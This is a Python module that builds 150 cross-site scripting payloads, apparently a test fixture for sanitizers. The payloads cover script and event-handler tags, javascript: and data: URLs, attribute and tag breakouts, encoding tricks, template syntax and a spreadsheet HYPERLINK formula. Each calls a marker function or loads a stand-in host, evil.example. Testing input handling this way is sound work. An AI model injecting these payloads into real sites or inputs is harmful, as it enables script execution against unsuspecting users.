"""150 ways in which a text, title, outlet, file name, address or note may try to run a script.

Each calls `hit(NUMBER)` or asks for `https://evil.example/NUMBER` where it works.
"""

from __future__ import annotations

CALL = "hit({n})"
FAR = "https://evil.example/{n}"
PLAIN = (  # where text becomes markup
    "<script>{c}</script>",
    "<ScRiPt >{c}</sCrIpT >",
    "<script/x>{c}</script>",
    "<script src={f}></script>",
    "<script\n>{c}</script\n>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<img src=x onerror={c}>",
    "<img/src=x/onerror={c}>",
    "<img src={f}>",
    "<img srcset='{f} 1x'>",
    "<svg onload={c}>",
    "<svg/onload={c}//",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}>#x'>",
    "<math><a xlink:href='javascript:{c}'>x</a></math>",
    "<body onload={c}>",
    "<iframe src='javascript:{c}'></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src={f}></iframe>",
    "<object data='javascript:{c}'></object>",
    "<embed src='{f}'>",
    "<video><source onerror={c}></video>",
    "<audio src={f} onerror={c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<marquee onstart={c}>",
    "<form action='javascript:{c}'><button>x</button></form>",
    "<button formaction='javascript:{c}'>x</button>",
    "<a href='javascript:{c}'>x</a>",
    "<a href='jAvAsCrIpT&colon;{c}'>x</a>",
    "<a href=' &#14; javascript:{c}'>x</a>",
    "<a href='data:text/html,<script>{c}</script>'>x</a>",
    "<base href='{f}/'>",
    "<link rel=stylesheet href='{f}'>",
    "<link rel=prefetch href='{f}'>",
    "<meta http-equiv=refresh content='0;url={f}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<style>@import '{f}';</style>",
    "<style>*{{background:url({f})}}</style>",
    "<div style='background:url({f})'>x</div>",
    "<table background='{f}'>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><img src=x onerror={c}>-->",
    "<![CDATA[><script>{c}</script>]]>",
    "<?xml-stylesheet href='{f}'?>",
    "<div hx-get='{f}' hx-trigger=load>x</div>",
    "<div hx-on:load='{c}' hx-get=/state hx-trigger=load>x</div>",
    "<div data-hx-on--load='{c}'>x</div>",
    "<p onpointerenter={c} tabindex=0 autofocus onfocus={c}>x</p>",
)
BREAKING = (  # where an attribute, a title or a script ends early
    "{p}",
    '">{p}',
    "'>{p}",
    "</title>{p}",
    "</textarea>{p}",
    "</script>{p}",
    "--></style>{p}",
)
OTHERS = (  # where templates, paths or JSON have a meaning
    "{{{{ {c} }}}}",
    "{{% if 1 %}}{c}{{% endif %}}",
    "${{{c}}}",
    "javascript:{c}",
    "vbscript:{c}",
    "data:text/html,<script>{c}</script>",
    '" autofocus onfocus={c} x="',
    "' autofocus onfocus={c} x='",
    "` onmouseover={c} `",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "%3Cscript%3E{c}%3C/script%3E",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "\u202e<script>{c}</script>\u202c",
    "＜script＞{c}＜/script＞",
    "\x01<script>{c}</script>",
    '{{"a": "</script><script>{c}</script>"}}',
    '=HYPERLINK("{f}")',
    "@import '{f}'",
)


def vectors() -> tuple[str, ...]:
    """Return 150 vectors, each with its number."""
    made = [*PLAIN, *OTHERS]
    for number, plain in enumerate(PLAIN * 2):
        made.append(BREAKING[number % len(BREAKING)].replace("{p}", plain))
    filled = [
        text.format(c=CALL.format(n=number), f=FAR.format(n=number))
        for number, text in enumerate(dict.fromkeys(made))
    ]
    return tuple(filled[:150])
